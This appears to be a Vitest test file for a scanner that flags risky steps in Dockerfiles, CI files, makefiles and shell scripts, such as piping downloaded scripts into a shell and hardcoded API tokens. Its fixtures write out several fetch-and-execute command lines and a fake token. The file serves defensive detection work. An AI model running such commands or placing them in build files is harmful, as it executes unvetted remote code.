import { describe, expect, test } from 'vitest';
import { utf8 } from '#formats/test-files/bytes';
import { scanBytes } from '../test-scan.ts';

const levels = (text: string, name = 'x') => {
  const scan = scanBytes(utf8(text), name);
  return [scan.format.kind, ...scan.observations.map(({ ruleId, severity }) => `${ruleId} ${severity}`)];
};

const docker = (line: string) => levels(`FROM python:3.11-slim\nWORKDIR /app\n${line}\n`);

describe('a Dockerfile', () => {
  test.each([
    ['a pipe into a shell', 'RUN curl -sSL https://x/install.sh | bash', 'MDL-DEV-013 high'],
    ['a pipe over two lines', 'RUN curl -sSL https://x/install.sh \\\n  | sudo -E bash -', 'MDL-DEV-013 high'],
    ['a download that is run', 'RUN wget https://x/setup.py && python3 setup.py', 'MDL-DEV-013 high'],
    ['a substitution', 'RUN bash -c "$(curl -fsSL https://x/y)"', 'MDL-DEV-013 high'],
    ['a file from the network', 'ADD https://x/y.bin /y.bin', 'MDL-DEV-013 medium'],
    ['open packages', 'RUN pip install --no-cache-dir torch numpy==1.26', 'MDL-DEV-014 low'],
    ['a package from an address', 'RUN pip install https://x/y.whl', 'MDL-REQ-002 medium'],
    ['a model', 'RUN wget https://huggingface.co/o/m/resolve/main/model.safetensors', 'MDL-DEV-002 low'],
    ['a key', 'ENV HF=hf_Zq8vN4kW2mT7pJ1pL9rBaQeR5u', 'MDL-DEV-012 high'],
  ])('with %s is told', (_name, line, expected) => {
    expect(docker(line)).toContain(expected);
  });

  test('that installs from a file of requirements raises nothing', () => {
    expect(
      docker('COPY requirements.txt .\nRUN pip install -r requirements.txt\nRUN curl -o x.tgz https://x/y.tgz\nCMD ["python", "x.py"]'),
    ).toEqual(['pipeline']);
  });
});

test('CI descriptions, makefiles and scripts are read', () => {
  expect(levels('on: push\njobs:\n  a:\n    steps:\n      - run: curl https://x/y | sh\n')).toEqual(
    expect.arrayContaining(['yaml', 'MDL-DEV-013 high']),
  );
  expect(levels('.PHONY: all\nall:\n\tcurl https://x/y | sh\n')).toEqual(['pipeline', 'MDL-DEV-013 high']);
  expect(levels('#!/bin/sh\nset -e\nsource <(curl -s https://x/y)\n')).toEqual(expect.arrayContaining(['script', 'MDL-DEV-013 high']));
});

test('a key is not shown', () => {
  const scan = scanBytes(utf8('#!/bin/sh\nexport T=hf_Zq8vN4kW2mT7pJ1pL9rBaQeR5u\n'), 'x');
  expect(scan.rules).toContain('MDL-DEV-012');
  expect(JSON.stringify(scan.observations)).not.toMatch(/W2mT7p|57326d543770/);
});
